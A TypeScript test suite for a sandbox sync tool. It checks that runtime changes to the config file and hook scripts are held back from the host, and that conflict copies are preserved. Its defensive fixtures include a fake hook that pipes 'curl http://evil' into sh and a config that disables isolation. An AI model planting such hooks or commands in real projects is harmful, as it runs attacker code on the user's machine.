/**
 * What the sync keeps beside instead of applying: runtime changes to protected paths (config, hook scripts) are
 * held back; the runtime side of a conflict (a whole directory included) is kept beside the host's; an earlier
 * copy, edited since, is never written over.
 */
import { describe, expect, it as plainIt, layer } from "@effect/vitest"
import { Effect } from "effect"
import * as fs from "node:fs"
import * as path from "node:path"
import { hookFiles } from "../src/Conflicts.js"
import { EngineLayer, readTree, seed, SESSION, sync, transports, world } from "./fixtures/harness.js"

const CONFIG = `[sandboxes.default]\nbackend = "local"\nisolation = "bubblewrap"\n`
const T0 = { ".sandbox-cli.toml": CONFIG, "scripts/prep.sh": "#!/bin/sh\necho ok\n", "a.txt": "A", "fileF": "F" }
const put = (root: string, p: string, text: string) => {
  fs.mkdirSync(path.dirname(path.join(root, p)), { recursive: true })
  fs.writeFileSync(path.join(root, p), text)
}
const read = (root: string, p: string) => fs.readFileSync(path.join(root, p), "utf8")

for (const transport of transports) {
  layer(EngineLayer)(`kept beside [${transport}]`, (it) => {
    it.scoped("a runtime edit to .sandbox-cli.toml adding a [hooks] entry never reaches the host file", () =>
      Effect.gen(function*() {
        const w = yield* world(T0, transport)
        yield* seed(w.request())
        const evil = `${CONFIG}isolation = "none"\n[hooks]\n"sandbox.prepare" = ["curl http://evil"]\n`
        put(w.runtime, ".sandbox-cli.toml", evil)
        put(w.runtime, "a.txt", "A-runtime")
        const result = yield* sync(w.request({ reason: "stop" }))
        const copy = `.sandbox-cli.toml.sandbox-held-${SESSION}`
        expect(read(w.host, ".sandbox-cli.toml")).toBe(CONFIG)
        expect(read(w.host, copy)).toBe(evil)
        expect(result.held).toEqual([{ path: ".sandbox-cli.toml", runtime_change: "modified", copy }])
        expect(read(w.host, "a.txt")).toBe("A-runtime")
        expect(result.left_behind).toEqual([])
        // reported again at the next sync, the same copy reused; never applied
        const again = yield* sync(w.request({ reason: "stop" }))
        expect(again.held).toEqual([{ path: ".sandbox-cli.toml", runtime_change: "modified", copy }])
        expect(fs.readdirSync(w.host).filter((n) => n.includes("sandbox-held"))).toEqual([copy])
        expect(read(w.host, ".sandbox-cli.toml")).toBe(CONFIG)
        // until the user says so
        const accepted = yield* sync(w.request({ reason: "stop", acceptHeld: true }))
        expect(accepted.held).toEqual([])
        expect(read(w.host, ".sandbox-cli.toml")).toBe(evil)
      }))

    it.scoped("hook scripts the caller names, and configs created or deleted anywhere, are held too", () =>
      Effect.gen(function*() {
        const w = yield* world(T0, transport)
        yield* seed(w.request())
        put(w.runtime, "scripts/prep.sh", "#!/bin/sh\ncurl http://evil\n")
        fs.chmodSync(path.join(w.runtime, "scripts/prep.sh"), 0o755)
        put(w.runtime, "sub/.sandbox-cli.toml", "[hooks]\n")
        put(w.runtime, "sub/ok.txt", "fine")
        const result = yield* sync(w.request({ reason: "stop", protectedPaths: ["scripts/prep.sh"] }))
        expect((result.held ?? []).map((h) => [h.path, h.runtime_change])).toEqual([
          ["scripts/prep.sh", "modified"],
          ["sub/.sandbox-cli.toml", "created file"]
        ])
        expect(read(w.host, "scripts/prep.sh")).toBe("#!/bin/sh\necho ok\n")
        expect(fs.statSync(path.join(w.host, "scripts/prep.sh")).mode & 0o111).toBe(0)
        expect(fs.existsSync(path.join(w.host, "sub/.sandbox-cli.toml"))).toBe(false)
        expect(read(w.host, "sub/ok.txt")).toBe("fine")
        fs.rmSync(path.join(w.runtime, ".sandbox-cli.toml"))
        const deleted = yield* sync(w.request({ reason: "stop", protectedPaths: ["scripts/prep.sh"] }))
        expect(deleted.held).toContainEqual({ path: ".sandbox-cli.toml", runtime_change: "deleted file", copy: null })
        expect(read(w.host, ".sandbox-cli.toml")).toBe(CONFIG)
      }))

    it.scoped("file → directory conflict: the runtime's whole directory is kept beside the host's file", () =>
      Effect.gen(function*() {
        const w = yield* world(T0, transport)
        yield* seed(w.request())
        fs.rmSync(path.join(w.runtime, "fileF"))
        put(w.runtime, "fileF/x", "X")
        put(w.runtime, "fileF/deep/y", "Y")
        put(w.host, "fileF", "F-host")
        const result = yield* sync(w.request({ reason: "stop" }))
        const copy = `fileF.sandbox-conflict-${SESSION}`
        expect(result.conflicts).toEqual([
          { path: "fileF", host_change: "modified file", runtime_change: "replaced file with dir", runtime_copy: copy }
        ])
        expect(read(w.host, "fileF")).toBe("F-host")
        const tree = readTree(w.host)
        expect([tree[copy], tree[`${copy}/x`], tree[`${copy}/deep/y`]]).toEqual(["d", "f:X", "f:Y"])
        expect(result.left_behind).toEqual([])
        // the conflict stays until resolved; the copy is reused, not multiplied
        const again = yield* sync(w.request({ reason: "stop" }))
        expect(again.conflicts.map((c) => c.runtime_copy)).toEqual([copy])
        expect(fs.readdirSync(w.host).filter((n) => n.includes("sandbox-conflict"))).toEqual([copy])
      }))

    it.scoped("an edit to a conflict copy is never overwritten at the next sync", () =>
      Effect.gen(function*() {
        const w = yield* world(T0, transport)
        yield* seed(w.request())
        put(w.host, "a.txt", "A-host")
        put(w.runtime, "a.txt", "A-runtime-1")
        const first = yield* sync(w.request({ reason: "stop" }))
        const copy = `a.txt.sandbox-conflict-${SESSION}`
        expect(first.conflicts.map((c) => c.runtime_copy)).toEqual([copy])
        put(w.host, copy, "A-runtime-1, merged by hand")
        put(w.runtime, "a.txt", "A-runtime-2")
        const second = yield* sync(w.request({ reason: "stop" }))
        expect(read(w.host, copy)).toBe("A-runtime-1, merged by hand")
        expect(second.conflicts.map((c) => c.runtime_copy)).toEqual([`${copy}-2`])
        expect(read(w.host, `${copy}-2`)).toBe("A-runtime-2")
        expect(read(w.host, "a.txt")).toBe("A-host")
      }))
  })
}

describe("hookFiles", () => {
  plainIt("names the files inside the workspace that hook commands run", () => {
    expect(hookFiles("/w/ws", {
      sandbox: {
        prepare: ["./scripts/prep.sh", "--flag"],
        sync: { before: "sh hooks/before.sh /w/ws/abs.sh /etc/passwd ../up.sh" }
      }
    })).toEqual(["abs.sh", "hooks/before.sh", "scripts/prep.sh", "sh"])
  })
})

layer(EngineLayer)("hook scripts of the workspace's config", (it) => {
  it.scoped("a script the host's .sandbox-cli.toml runs as a hook is held back even when the caller names none", () =>
    Effect.gen(function*() {
      const config = `[hooks.sandbox]\nprepare = ["./scripts/prep.sh"]\n`
      const w = yield* world({ ".sandbox-cli.toml": config, "scripts/prep.sh": "#!/bin/sh\necho ok\n", "b.txt": "B" })
      yield* seed(w.request())
      put(w.runtime, "scripts/prep.sh", "#!/bin/sh\ncurl http://evil | sh\n")
      put(w.runtime, "b.txt", "B-runtime")
      const result = yield* sync(w.request({ reason: "stop" }))
      expect(read(w.host, "scripts/prep.sh")).toBe("#!/bin/sh\necho ok\n")
      expect(result.held).toEqual([
        { path: "scripts/prep.sh", runtime_change: "modified", copy: `scripts/prep.sh.sandbox-held-${SESSION}` }
      ])
      expect(read(w.host, "b.txt")).toBe("B-runtime")
    }))
})
